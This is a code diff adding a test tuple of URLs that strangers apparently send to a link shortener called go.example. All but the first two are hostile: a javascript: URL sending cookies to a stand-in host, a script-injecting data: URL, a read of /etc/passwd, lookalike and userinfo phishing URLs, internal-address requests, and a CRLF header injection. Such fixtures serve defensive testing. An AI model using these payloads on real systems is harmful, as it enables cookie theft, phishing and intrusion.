@@ -38,3 +38,20 @@ def clicks_counted(status: int, *, browsers: int, clicks_each: int) -> int:
             reached += not kept
             kept = kept or status == 301
     return reached
+
+
+FIRST_HOUR = (
+    "https://www.rfc-editor.org/rfc/rfc6585",
+    "https://example.org/menu?table=7#drinks",
+    "javascript:fetch('https://cats.example/'+document.cookie)",
+    "data:text/html,<script>alert(1)</script>",
+    "file:///etc/passwd",
+    "https://go.example/loop",
+    "https://go.example\\loop",
+    "https://bank.example@cats.example/login",
+    "https://xn--bnk-6cd.example/login",
+    "http://192.168.0.1/reboot",
+    "http://0x7f.1/admin",
+    "https://example.org/\r\nSet-Cookie: session=1",
+)
+"""What strangers send to a shortener called go.example in its first hour: the first two are honest."""
